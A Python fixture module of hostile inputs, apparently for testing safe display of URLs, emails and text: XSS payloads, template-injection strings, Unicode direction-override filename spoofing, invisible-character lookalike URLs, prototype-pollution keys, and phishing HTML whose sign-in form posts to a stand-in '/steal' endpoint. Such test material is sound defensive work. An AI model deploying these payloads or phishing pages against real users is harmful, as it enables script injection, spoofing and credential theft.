"""Inputs and names that try to run something, load something, or break the layout of a page that shows them."""

from collections.abc import Mapping

ELSEWHERE = "https://elsewhere.example"
RUN = f"window.__executed = 1; fetch('{ELSEWHERE}/run')"
SCRIPT = f"<script>{RUN}</script>"
IMAGE = f'<img src="{ELSEWHERE}/pixel.png" onerror="{RUN}">'
BREAK_OUT = f"\"'></textarea></title></script>{SCRIPT}{IMAGE}"
TEMPLATE = "{{constructor.constructor('window.__executed = 1')()}}${window.__executed = 1}"
OVERRIDE = "\u202egpj.exe\u202c"  # right to left
ISOLATE = "\u2067\u05d0\u05d1\u05d2 \u0645\u0631\u062d\u0628\u0627"  # without its end
INVISIBLE = "pay\u200bpal\u00ad.com\ufeff\u2028next\u2029line"
ZALGO = "Z" + "\u0353\u0301\u0489" * 200
NUL = "a\x00b\x07c\x1b[31md\x7f\x9b"
TOKEN = "x" * 5000  # nowhere to break a line
LONG_LINE = "0123456789abcdef" * 65_000  # 1 MB without a space

NAMES = (SCRIPT, IMAGE, f"kim{OVERRIDE}", ISOLATE, "m" * 128, f'" onfocus="{RUN}" autofocus="', ZALGO[:128], TEMPLATE)

URLS = (
    f"https://login.example/{BREAK_OUT}",
    f"javascript:{RUN}",
    f"data:text/html,{SCRIPT}",
    f"https://bank.example@{ELSEWHERE.removeprefix('https://')}/{OVERRIDE}",
    f"https://\u202emoc.elgoog/{ISOLATE}?{INVISIBLE}",
    f"http://long.example/{TOKEN}?q={TOKEN}",
    f"http://{'a.' * 100}example/{TEMPLATE}",
    f"vbscript:msgbox(1)//{NUL}",
)
TEXTS = (
    BREAK_OUT,
    f"{NUL}{OVERRIDE}{ISOLATE}{INVISIBLE}{ZALGO}",
    TOKEN,
    LONG_LINE[:200_000],  # the features of a longer one take long; the largest is an e-mail
    f"[click]({ELSEWHERE}) javascript:{RUN} {TEMPLATE}",
    "\n" * 3000 + "far below",
)
FEATURES = (
    {BREAK_OUT: 1, f"kind={IMAGE}": 2.0, TEMPLATE: 1},
    {f"name{OVERRIDE}": 1, ISOLATE: 1, INVISIBLE: 1, NUL: 1},
    {TOKEN: 1, ZALGO: 1e100, "toString": -1e-100, "__proto__": 1, "constructor": 1, " ": 1},
)
REMOTE_HTML = f"""<html><head><base href="{ELSEWHERE}/"><meta http-equiv="refresh" content="0;url={ELSEWHERE}/refresh">
<link rel="stylesheet" href="{ELSEWHERE}/mail.css"><style>@import url({ELSEWHERE}/more.css); body {{
background: url({ELSEWHERE}/background.png) }}</style>{SCRIPT}</head><body onload="{RUN}">{IMAGE}
<svg onload="{RUN}"><image href="{ELSEWHERE}/vector.png"/></svg><iframe src="{ELSEWHERE}/frame"></iframe>
<object data="{ELSEWHERE}/object"></object><embed src="{ELSEWHERE}/embed">
<video autoplay src="{ELSEWHERE}/video"></video>
<form action="{ELSEWHERE}/steal" method="post"><input name="key" autofocus onfocus="{RUN}">
<button>Sign in</button></form>
<a href="javascript:{RUN}">one</a> <a href="data:text/html,{SCRIPT}">two</a>
<a href="{ELSEWHERE}/phish">https://bank.example/</a><a href="file:///etc/passwd">three</a>
<div style="position:fixed;inset:0;z-index:99999;background:white">
Your session has ended. Sign in.</div></body></html>"""


def _mail(subject: str, sender: str, html: str, file: str) -> str:
    return "\r\n".join(
        (
            f"From: {sender}",
            "To: kim@harbor.example",
            f"Reply-To: {sender}",
            f"Subject: {subject}",
            f"X-Trick: {IMAGE}",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="part"',
            "",
            "--part",
            "Content-Type: text/html; charset=utf-8",
            "",
            html,
            "--part",
            "Content-Type: text/html",
            f'Content-Disposition: attachment; filename="{file}"',
            "",
            SCRIPT,
            "--part--",
            "",
        )
    )


MAILS = (
    _mail("Your parcel waits", "Airpost <notice@airpost.example>", REMOTE_HTML, "invoice.html"),
    _mail(SCRIPT, f"{IMAGE} <a@b.example>", REMOTE_HTML, "<img src=x onerror=alert(1)>.html"),
    _mail(
        f"{OVERRIDE} {ISOLATE}",
        f"{OVERRIDE} <{'a' * 300}@example.test>",
        f"<p>{ISOLATE}{OVERRIDE}</p>",
        f"cv{OVERRIDE}",
    ),
    _mail(TOKEN, TOKEN, f"<p>{TOKEN}</p>", TOKEN),
    _mail("One line", "a@b.example", LONG_LINE, "a.txt"),
    _mail(NUL, NUL, f"<pre>{NUL}{ZALGO}{TEMPLATE}</pre>", NUL),
)

INPUTS: list[Mapping[str, object]] = [
    *({"url": each} for each in URLS),
    *({"email": each} for each in MAILS),
    *({"text": each} for each in TEXTS),
    *({"features": each} for each in FEATURES),
]
